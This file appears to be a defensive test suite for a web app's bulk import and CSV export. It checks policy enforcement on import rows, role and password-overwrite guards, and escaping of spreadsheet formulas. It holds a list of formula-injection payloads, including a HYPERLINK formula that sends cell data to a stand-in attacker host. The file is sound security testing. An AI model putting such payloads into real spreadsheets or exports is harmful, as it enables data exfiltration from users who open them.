/** Import rows that try to bypass policies, and CSV exports with text that a spreadsheet would run. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type AttackTarget, startAttackTarget } from './attack-target.ts';

let target: AttackTarget;
beforeAll(async () => {
  target = await startAttackTarget();
});
afterAll(() => target.close());

describe('an import row', () => {
  it('decides an import row by itself if policies read it, also after allowed rows', async () => {
    const rows = [
      { title: 'a' },
      { title: 'b' },
      { title: 'mine', createdBy: target.ids.alice },
      { title: 'theirs', ownerId: target.ids.bob },
    ];
    const policy = await target.createPolicy({
      role: 'user',
      rules: [
        {
          resource: 'Case',
          action: 'import',
          effect: 'DENY',
          priority: 900,
          conditions: [{ field: 'resource.ownerId', operator: 'eq', value: target.ids.bob, ifExists: true }],
        },
      ],
    });
    const raw = rows.map((row) => JSON.stringify(row)).join('\n');
    const reply = await target.as('alice', 'POST', '/api/Case/import?onError=skip', {
      raw,
      headers: { 'content-type': 'application/x-ndjson' },
    });
    await target.as('admin', 'DELETE', `/admin/api/policies/${policy}`);
    expect([reply.status, reply.at('data.imported'), reply.at('rejections.0')]).toMatchObject([200, 3, { row: 4, code: 'ACCESS_DENIED' }]);
  });

  it('an import row with the role admin creates no admin', async () => {
    const raw = 'name,email,password,role\nx,x@example.com,a long password,admin\n';
    const reply = await target.as('alice', 'POST', '/api/User/import', { raw, headers: { 'content-type': 'text/csv' } });
    expect([reply.status, reply.at('errors.0.code')]).toEqual([422, 'guarded']);
  });

  it('an upsert does not change the password of another user', async () => {
    const raw = `email,password\n${target.emails.bob},a password of mine\n`;
    const query = 'mode=upsert&key=email';
    for (const caller of ['alice', 'eve'] as const) {
      const reply = await target.as(caller, 'POST', `/api/User/import?${query}`, { raw, headers: { 'content-type': 'text/csv' } });
      expect([403, 422]).toContain(reply.status);
    }
    await target.logIn(target.emails.bob, target.passwords);
  });

  it('a row of a dry run has an audit entry', async () => {
    const raw = JSON.stringify({ title: 'probe' });
    const before = (await target.decisions('action=import&limit=200')).length;
    await target.as('alice', 'POST', '/api/Case/import?dryRun=true', { raw, headers: { 'content-type': 'application/x-ndjson' } });
    expect((await target.decisions('action=import&limit=200')).length).toBe(before + 1);
  });
});

/** Texts that a spreadsheet would run, also hidden ones. */
const FORMULAS = ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', ' =1', '=HYPERLINK("http://evil.example?"&A1)', "'=1", '\uff1d1'];

describe('a text that a spreadsheet would run', () => {
  it('exports a text that a spreadsheet would run to CSV as text, and imports it again unchanged', async () => {
    const raw = FORMULAS.map((title) => JSON.stringify({ title, origin: 'formula' })).join('\n');
    const file = { raw, headers: { 'content-type': 'application/x-ndjson' } };
    expect((await target.as('eve', 'POST', '/api/Case/import', file)).status).toBe(200);
    const where = { origin: 'formula' };
    const plain = await target.as('eve', 'POST', '/api/Case/list', { body: { where } });
    const stored = (plain.at('data') as { title: string }[]).map(({ title }) => title);
    expect(stored.toSorted()).toEqual(FORMULAS.toSorted());
    for (const delimiter of ['', '&delimiter=;', '&delimiter=tab']) {
      const csv = await target.as('eve', 'POST', `/api/Case/export?format=csv${delimiter}`, { body: { where, fields: ['title'] } });
      const cells = [...csv.text.matchAll(/^[0-9a-f-]{36}[,;\t]"?(.)/gmu)].map(([, first]) => first);
      expect(cells, csv.text).toEqual(FORMULAS.map(() => "'"));
    }
    const csv = await target.as('eve', 'POST', '/api/Case/export?format=csv', { body: { where, fields: ['title', 'amount'] } });
    const again = await target.as('eve', 'POST', '/api/Case/import?mode=upsert&key=id&onError=skip', {
      raw: csv.text,
      headers: { 'content-type': 'text/csv' },
    });
    expect([again.at('data.unchanged'), again.at('data.rejected')]).toEqual([FORMULAS.length, 0]);
  });
});
